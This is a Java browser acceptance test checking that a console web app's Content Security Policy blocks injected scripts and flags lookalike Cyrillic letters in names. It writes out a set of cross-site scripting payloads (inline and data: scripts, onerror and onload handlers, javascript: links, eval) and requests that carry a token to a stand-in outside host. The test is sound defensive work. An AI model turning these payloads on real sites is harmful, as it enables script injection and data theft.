package org.hakimtoto.lab.acceptance.desk;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import org.hakimtoto.lab.acceptance.Browser;
import org.hakimtoto.lab.acceptance.InBrowser;
import org.hakimtoto.lab.acceptance.Reports;
import org.hakimtoto.lab.acceptance.RunningGateway;
import org.hakimtoto.store.real.RealStores;
import org.hakimtoto.store.real.WithRealStores;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// A script that found its way into a page of the console does not run, and reaches nobody: as if
/// what escapes the texts had failed.
@ExtendWith(WithRealStores.class)
class InjectedScriptAcceptance {
  /// What an injected script could be, each leaves `window.ran`; and what would carry data away.
  private static final String INJECT =
      """
      () => {
        document.addEventListener('securitypolicyviolation',
          e => (window.refused = window.refused || []).push(e.effectiveDirective));
        const add = (tag, set) => {
          const e = document.createElement(tag); set(e); document.body.append(e); return e; };
        add('script', e => e.textContent = 'window.ran = "inline"');
        add('script', e => e.src = 'data:text/javascript,window.ran="data"');
        add('script', e => e.src = 'https://elsewhere.invalid/x.js');
        add('div', e => e.innerHTML =
          '<img src=x onerror="window.ran=1"><svg onload="window.ran=2"></svg>'
          + '<iframe srcdoc="<script>parent.ran=3</script>"></iframe>');
        add('a', e => e.href = 'javascript:window.ran="link"').click();
        add('button', e => e.setAttribute('onclick', 'window.ran="button"')).click();
        add('script', e => e.textContent = 'eval("window.ran=4")');
        add('img', e => e.src = 'https://elsewhere.invalid/?token=1');
        add('link', e => { e.rel = 'stylesheet'; e.href = 'https://elsewhere.invalid/x.css'; });
        add('base', e => e.href = 'https://elsewhere.invalid/');
        return fetch('https://elsewhere.invalid/').then(() => 'went', () => 'stayed')
          .then(went => new Promise(done => setTimeout(() => done(went), 300)));
      }
      """;

  private RunningGateway house;
  private RealStores stores;

  @BeforeEach
  void open(RealStores real) {
    stores = real;
    house = RunningGateway.openToday(stores);
  }

  @AfterEach
  void close() {
    house.close();
  }

  @ParameterizedTest
  @ValueSource(strings = {"signin", "sessions", "desk", "indicators", "administration", "menus"})
  @InBrowser
  void no_page_runs_or_asks_what_was_injected(String name) {
    try (var browser = new Browser(1280, 800)) {
      var page = browser.page();
      if (!name.equals("signin")) {
        // a supervisor, who may open each
        new Desk(browser, house, stores).actsAs("county-nairobi");
      }
      page.navigate(RunningGateway.uri(port(name), "/console/" + name).toString());

      assertThat(page.evaluate(INJECT)).isEqualTo("stayed");

      assertThat(page.evaluate("window.ran === undefined")).isEqualTo(true);
      assertThat(page.evaluate("window.refused.join(' ')").toString())
          .contains("script-src-elem", "script-src-attr", "img-src", "connect-src", "base-uri");
      assertThat(page.evaluate("new URL('x', document.baseURI).hostname")).isEqualTo("127.0.0.1");
    }
  }

  private int port(String name) {
    return name.equals("menus") ? house.operationsPort() : house.deskPort();
  }

  /// The last letter is Cyrillic: it looks like an a, and no search for Zuhura finds it.
  @Test
  @InBrowser
  void letters_of_another_alphabet_are_pointed_out() {
    var chief = house.phone("+254700000001");
    String reference = chief.reports("482915", Reports.naming("0733918264"));
    chief.names("482915", "Zuhur\u0430");
    try (var browser = new Browser(1280, 800)) {
      var desk = new Desk(browser, house, stores);
      desk.actsAs("scco-kibra");
      desk.opens(reference);

      assertThat(desk.part("file")).containsText("U+0430");
    }
  }
}
